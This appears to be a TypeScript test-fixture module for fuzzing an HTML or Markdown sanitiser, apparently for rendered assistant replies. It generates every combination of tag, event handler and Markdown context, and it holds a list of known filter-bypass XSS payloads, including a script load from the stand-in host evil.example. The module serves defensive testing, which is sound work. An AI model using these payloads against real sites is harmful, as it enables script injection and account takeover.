const tags = (
  'a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br ' +
  'button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div ' +
  'dl dt element em embed fieldset figcaption figure font footer form frame frameset h1 head header hgroup hr html i ' +
  'iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu menuitem ' +
  'meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture ' +
  'plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select shadow slot small source ' +
  'spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr ' +
  'track tt u ul var video wbr xmp x-custom'
).split(' ');

const events = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur cancel canplay ' +
  'canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag ' +
  'dragend dragenter dragstart drop durationchange end ended error focus focusin focusout formdata fullscreenchange ' +
  'hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadstart message mousedown ' +
  'mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing ' +
  'pointerdown pointerover pointerrawupdate popstate progress repeat resize scroll scrollend search securitypolicyviolation ' +
  'select show submit timeupdate toggle touchstart transitionend unload volumechange waiting webkitanimationstart wheel'
).split(' ');

const loads =
  'src=x href=x data=x open autofocus controls contenteditable tabindex=1 style="animation:x 1ms;display:block"';

/** Where a text may stand in a reply. */
const contexts: ((text: string) => string)[] = [
  (text) => text,
  (text) => `- a\n\n  > ${text}\n`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll('|', '')} | c |\n`,
  (text) => `**a [${text}](https://evil.example/ "${text.replaceAll('"', "'")}")`,
  (text) => `\`\`\`html\n${text}\n`,
  (text) => `# ${text} \`x\`\n\nx[^1]\n\n[^1]: ${text}\n`,
  (text) => `&lt;p&gt; $x$ <!-- --> ${text.replaceAll('<', '&lt;')} \`${text}\` ${text}`,
];

/** How many texts there are: every element with every handler, in every place. */
export const markupAttackCount = tags.length * events.length * contexts.length;

/** One of them, by its number. */
export function markupAttack(number: number): string {
  const context = contexts[number % contexts.length];
  const pair = Math.floor(number / contexts.length);
  const event = events[pair % events.length] ?? '';
  const tag = tags[Math.floor(pair / events.length) % tags.length] ?? '';
  const text = `<${tag} ${loads} on${event}=__pwned()>x</${tag}>`;
  return context?.(text) ?? text;
}

/** Texts of no system, each known from a filter that it passed. */
const known = [
  '<script>__pwned()</script>',
  '<scr<script>ipt>__pwned()</scr</script>ipt>',
  '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
  '<<script>__pwned();//<</script>',
  '<script>__pwned()//',
  '<img src=x onerror=__pwned()>',
  '<img """><script>__pwned()</script>">',
  '<img src=x:x onerror=__pwned()//',
  '<IMG SRC=`javascript:__pwned()`>',
  '<img src=1 href=1 onerror="javascript:__pwned()"></img>',
  '<svg/onload=__pwned()>',
  '<svg><script>__pwned()</script></svg>',
  '<svg><animate onbegin=__pwned() attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:__pwned() /><text y=9>x</text></a></svg>',
  '<svg><style><img src=x onerror=__pwned()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>',
  '<math href="javascript:__pwned()">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=__pwned()>">',
  '<template><script>__pwned()</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=__pwned()>">',
  '<xmp><p title="</xmp><img src=x onerror=__pwned()>">',
  '<!--><img src=x onerror=__pwned()>-->',
  '<!--[if IE]><img src=x onerror=__pwned()><![endif]-->',
  '<![CDATA[<img src=x onerror=__pwned()>]]>',
  '<?xml-stylesheet href="javascript:__pwned()"?>',
  '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.__pwned()"></iframe>',
  '<object data="javascript:parent.__pwned()"></object>',
  '<embed src="javascript:parent.__pwned()">',
  '<details open ontoggle=__pwned()>',
  '<input autofocus onfocus=__pwned()>',
  '<video><source onerror=__pwned()></video>',
  '<audio src onloadstart=__pwned()>',
  '<marquee onstart=__pwned()>',
  '<body onload=__pwned()>',
  '<a href="jav&#x0A;ascript:__pwned()">x</a>',
  '<a href="javas\tcript:__pwned()">x</a>',
  '<form action="javascript:__pwned()"><button>x</button></form>',
  '<button form=f formaction=javascript:__pwned()>x</button><form id=f></form>',
  '<isindex type=image src=1 onerror=__pwned()>',
  '<x contenteditable onblur=__pwned()>x</x>',
  '<p onmouseover="__pwned()"\nstyle="position:fixed;inset:0">x</p>',
  '&lt;img src=x onerror=__pwned()&gt;',
  '&#60;img src=x onerror=__pwned()&#62;',
  '\\<img src=x onerror=__pwned()\\>',
  '\u003cimg src=x onerror=__pwned()\u003e',
  '＜img src=x onerror=__pwned()＞',
  '<img\0src=x onerror=__pwned()>',
  '<a id=workbench><a id=workbench name=post>',
  '<form id=__proto__><input name=nodeName><input name=attributes></form>',
  '{{constructor.constructor("__pwned()")()}}',
  '${__pwned()} #{__pwned()} <%= __pwned() %>',
];

/** Those, in every place. */
export const knownMarkup: string[] = known.flatMap((text) => contexts.map((context) => context(text)));
